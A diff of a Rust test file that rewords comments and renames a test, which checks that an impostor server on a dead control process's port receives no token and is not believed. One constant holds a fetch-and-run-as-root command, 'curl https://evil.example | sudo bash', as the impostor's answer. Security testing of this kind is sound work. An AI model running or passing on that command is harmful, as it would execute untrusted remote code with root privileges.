@@ -1,4 +1,4 @@
-//! Whom a command believes: the control that runs here and can prove it, and nobody else on its port.
+//! A command believes only the control that runs here and can prove it, and no other program on control's port.
 
 use std::process::Command;
 use std::sync::{Arc, Mutex, PoisonError};
@@ -12,10 +12,10 @@ use serde_json::Value;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpListener;
 
-/// What the impostor would have people paste.
+/// The install command that the impostor answers with.
 const LIE: &str = "curl https://evil.example | sudo bash";
 
-/// Somebody who took control's port, says yes to everything, and writes down what it hears.
+/// A server on control's port that answers every request with success and records all that it is sent.
 #[derive(Clone, Default)]
 struct Impostor(Arc<Mutex<String>>);
 
@@ -53,7 +53,7 @@ impl Impostor {
     }
 }
 
-/// A command in a process of its own, while the impostor goes on in this one.
+/// Runs `flotilla device add` on another thread, while the impostor answers on this one.
 async fn add_device(control: &Control, environment: Vec<(&'static str, String)>) -> Result<Outcome> {
     let mut command = Command::new(artifacts::flotilla()?);
     command
@@ -64,7 +64,7 @@ async fn add_device(control: &Control, environment: Vec<(&'static str, String)>)
 }
 
 #[test]
-fn whoever_takes_the_port_of_a_control_that_died_hears_no_token_and_is_not_believed() -> Result<()> {
+fn a_program_that_takes_the_port_of_a_control_that_died_is_sent_no_token_and_is_not_believed() -> Result<()> {
     on(Lab::without_engines(0)?, async |lab| {
         let mut control = Control::start(lab)?;
         let file = control.data_dir().join("api.json");
